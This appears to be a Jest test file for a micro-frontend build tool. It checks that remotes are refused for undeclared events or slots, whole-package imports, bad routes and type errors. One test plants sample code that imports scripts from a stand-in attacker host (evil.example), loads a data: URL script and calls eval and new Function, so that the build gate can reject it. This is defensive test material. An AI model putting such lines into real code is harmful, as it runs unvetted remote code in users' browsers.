import { mkdir, readFile, rm, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { buildAll } from './build-all.ts';
import type { BuildOptions } from './build.ts';
import { createFixtureWorkspace } from './fixture-workspace.ts';
import { checkRelease } from './gate.ts';
import type { Manifest, RemoteManifest, ShellManifest } from './manifest.ts';

const MINUTE = 60_000;
const HOME = 'src/features/home/home-page.tsx';

let root: string;
let shell: ShellManifest;

beforeAll(async () => {
  root = await createFixtureWorkspace();
  const built = await build('shell');
  if (built.kind !== 'shell') throw new Error('The shell built something else.');
  shell = built;
}, 2 * MINUTE);
afterAll(() => rm(root, { recursive: true, force: true }));

async function build(folder: string, options: BuildOptions = {}): Promise<Manifest> {
  const [result] = await buildAll([join(root, folder)], { brotliQuality: 1, ...options });
  if (!result) throw new Error('There is no result.');
  return result.manifest;
}

/** Builds `mf-one` with these files in it, which are as they were afterwards. */
async function planted(files: Readonly<Record<string, string>>, options: BuildOptions = {}): Promise<RemoteManifest> {
  const before = new Map<string, string | null>();
  try {
    for (const [file, content] of Object.entries(files)) {
      const path = join(root, 'mf-one', file);
      before.set(path, await readFile(path, 'utf8').catch(() => null));
      await mkdir(dirname(path), { recursive: true });
      await writeFile(path, content);
    }
    return (await build('mf-one', options)) as RemoteManifest;
  } finally {
    for (const [path, content] of before) await (content === null ? rm(path) : writeFile(path, content));
  }
}

const pageOf = (body: string, imports = '') => `${imports}\nexport default function HomePage() {\n  ${body}\n}\n`;
const definition = async (over: object) =>
  JSON.stringify({ ...JSON.parse(await readFile(join(root, 'mf-one/remote.json'), 'utf8')), ...over });

describe('a remote is refused when it is built where it', () => {
  it(
    'runs code that nobody has checked, each with the line of the sources that it stands in',
    async () => {
      const body = `return [
    () => import('https://evil.example/x.js'),
    () => import(/* webpackIgnore: true */ 'https://evil.example/y.js'),
    () => import(/* webpackIgnore: true */ 'data:text/javascript,1'),
    () => new Function('return 1')(),
    () => (0, eval)('1'),
    () => document.createElement('script'),
    () => new Worker('/remotes/mf-one/x.js'),
  ];`;
      const refusal = await planted({ [HOME]: pageOf(body) }).then(
        () => 'built',
        ({ message }: Error) => message,
      );
      const lines = refusal.split('\n');
      expect(lines[0]).toBe('mf-one: It cannot be built:');
      const found = lines
        .slice(1)
        .map((line) => /home-page\.tsx:(\d+): it runs code that nobody has checked: (.+)$/.exec(line));
      expect(found.flatMap((match) => match?.[1] ?? []).toSorted((one, two) => +one - +two)).toEqual([
        '5',
        '6',
        '7',
        '8',
        '9',
        '10',
      ]);
      expect(lines.filter((line) => line.includes('import("https://evil.example/x.js")'))).toHaveLength(1);
      expect(lines).toHaveLength(1 + 7);
    },
    MINUTE,
  );

  it(
    'emits, hears, shows or names what it does not declare',
    async () => {
      const page = pageOf(
        "return <Slot name=\"two.place@1\" title={emit('one.done@1') + listen('two.opened@1') + ['one.named@1'].join()} />;",
        "import { emit, listen } from '@commonweal/event-bus';\nimport { Slot } from '@commonweal/platform/slot';",
      );
      await expect(planted({ [HOME]: page })).rejects.toThrow(
        `It cannot be built:
  it emits the event one.done@1, which remote.json does not declare
  it hears the event two.opened@1, which remote.json does not declare
  it shows the slot two.place@1, which remote.json does not declare
  it names one.named@1, which remote.json does not declare`,
      );
      const json = await definition({
        slots: { renders: ['two.place@1'] },
        events: { emits: ['one.done@1', 'one.named@1'], listens: ['two.opened@1'] },
      });
      await expect(planted({ [HOME]: page, 'remote.json': json })).resolves.toMatchObject({ name: 'mf-one' });
    },
    MINUTE,
  );

  it(
    'declares a slot that it does not bring, or brings one that it does not declare',
    async () => {
      const remote = await readFile(join(root, 'mf-one/src/remote.ts'), 'utf8');
      const bringing = remote.replace(
        'messages:',
        "slots: { 'one.place@1': () => import('#features/home/home-page.tsx') },\n  messages:",
      );
      const declaring = await definition({ slots: { provides: ['one.place@1'] } });
      await expect(planted({ 'src/remote.ts': bringing })).rejects.toThrow('it brings the slot one.place@1');
      await expect(planted({ 'remote.json': declaring })).rejects.toThrow(
        'it declares the slot one.place@1, which its code does not bring',
      );
      const honest = await planted({ 'src/remote.ts': bringing, 'remote.json': declaring });
      expect(honest.definition.slots.provides).toEqual(['one.place@1']);
    },
    2 * MINUTE,
  );

  it(
    'takes a shared package as a whole, so that nobody sees what it uses',
    async () => {
      const page = pageOf(
        'return <p>{JSON.stringify(everything)}</p>;',
        "import * as everything from '@commonweal/platform/context';",
      );
      await expect(planted({ [HOME]: page })).rejects.toThrow(
        'home-page.tsx takes @commonweal/platform/context as a whole. Import the names that it uses',
      );
    },
    MINUTE,
  );

  it(
    'has no plain route, or no name of its own',
    async () => {
      const routes = await definition({ routes: [{ path: '/one%2Ftwo', page: 'home' }] });
      await expect(planted({ 'remote.json': routes })).rejects.toThrow(
        /routes\.0\.path: must consist of plain segments/,
      );
      const nameless = await definition({ title: undefined });
      await expect(planted({ 'remote.json': nameless })).rejects.toThrow(/title: /);
    },
    MINUTE,
  );
});

describe('the names that a remote imports of shared packages', () => {
  const imports = [
    "import React, { useState as state } from 'react';",
    "import * as context from '@commonweal/platform/context';",
    "export { call } from '@commonweal/api-client';",
    "import { emit } from '@commonweal/event-bus';",
  ].join('\n');
  const body = `const [shown] = state(React.useId());
  const late = async () => { const { heavy } = await import('@commonweal/platform/heavy'); return heavy(); };
  return <p onClick={() => void late()} title={shown}>{context.useGreeting()}</p>;`;

  it(
    'are known, however they are imported; what is not used is none',
    async () => {
      const { exports } = await planted({ [HOME]: pageOf(body, imports) });
      expect(exports).toEqual({
        '@commonweal/api-client': ['call'],
        '@commonweal/platform/context': ['useGreeting'],
        '@commonweal/platform/heavy': ['heavy'],
        '@commonweal/platform/remote': ['defineRemote'],
        react: ['useId', 'useState'],
        'react/jsx-runtime': ['jsx'],
      });
    },
    MINUTE,
  );

  it(
    'are held against those that the shell exports, which its build knows',
    async () => {
      expect(shell.exports).toMatchObject({
        '@commonweal/platform/context': ['Greeting', 'useGreeting'],
        '@commonweal/event-bus': ['emit', 'listen'],
        react: expect.arrayContaining(['useId', 'useState']),
        'react-dom/client': ['createRoot', 'hydrateRoot', 'version'],
      });
      const remotes = [await planted({ [HOME]: pageOf(body, imports) })];
      const check = (host: ShellManifest) =>
        checkRelease(
          { shell: host, remotes },
          { api: { shapes: {}, privileges: [] }, changed: ['shell'], before: null },
        );
      expect(check(shell)).toEqual([]);
      const dropping = { ...shell, exports: { ...shell.exports, '@commonweal/platform/context': ['Greeting'] } };
      expect(check(dropping).map(({ rule, text }) => [rule, text.en])).toEqual([
        [
          'export',
          `mf-one ${remotes[0]?.version} imports useGreeting from @commonweal/platform/context, which shell ${shell.version} does not export.`,
        ],
      ]);
    },
    MINUTE,
  );
});

describe('the types of a remote', () => {
  const checked = { checkTypes: true } as const;

  it(
    'are checked where that is asked for, and its manifest says of which sources',
    async () => {
      const one = await planted({}, checked);
      expect(one.types).toEqual({
        compiler: expect.stringMatching(/^\d+\.\d+\.\d+$/),
        digest: expect.stringMatching(/^sha256-/),
      });
      const written = JSON.parse(await readFile(join(root, 'mf-one/dist/manifest.json'), 'utf8')) as Manifest;
      expect(written.types).toEqual(one.types);
      const other = await planted({ [HOME]: pageOf('return <p>Other</p>;') }, checked);
      expect(other.types?.digest).not.toBe(one.types?.digest);
      expect((await planted({ [HOME]: pageOf('return <p>Unchecked</p>;') })).types).toBeNull();
    },
    MINUTE,
  );

  it(
    'are no part of the version',
    async () => {
      const page = { [HOME]: pageOf('return <p>The same</p>;') };
      const [without, withTypes] = [await planted(page, { force: true }), await planted(page, checked)];
      expect([without.types, withTypes.types]).toEqual([null, expect.anything()]);
      expect(withTypes.version).toBe(without.version);
    },
    MINUTE,
  );

  it.each([
    ['itself', { [HOME]: pageOf('const count: number = "one";\n  return <p>{count}</p>;') }, /home-page\.tsx.*TS2322/],
    [
      'a shared package',
      { [HOME]: pageOf("return <p>{emit('two.closed@1')}</p>;", "import { emit } from '@commonweal/event-bus';") },
      /home-page\.tsx.*TS2345.*two\.closed@1/,
    ],
  ])(
    'are refused where they do not fit %s',
    async (_what, files, message) => {
      const json = await definition({ events: { emits: ['two.closed@1'] } });
      await expect(planted({ ...files, 'remote.json': json }, checked)).rejects.toThrow(message);
    },
    MINUTE,
  );

  it(
    'fit where another remote declares the event, in its own files',
    async () => {
      const page = pageOf("return <p>{listen('two.opened@1')}</p>;", "import { listen } from '@commonweal/event-bus';");
      const json = await definition({ events: { listens: ['two.opened@1'] } });
      expect((await planted({ [HOME]: page, 'remote.json': json }, checked)).types).not.toBeNull();
    },
    MINUTE,
  );

  it(
    'cannot be checked without a project',
    async () => {
      await rm(join(root, 'mf-two/tsconfig.json'));
      await expect(build('mf-two', checked)).rejects.toThrow('mf-two has no tsconfig.json');
    },
    MINUTE,
  );
});
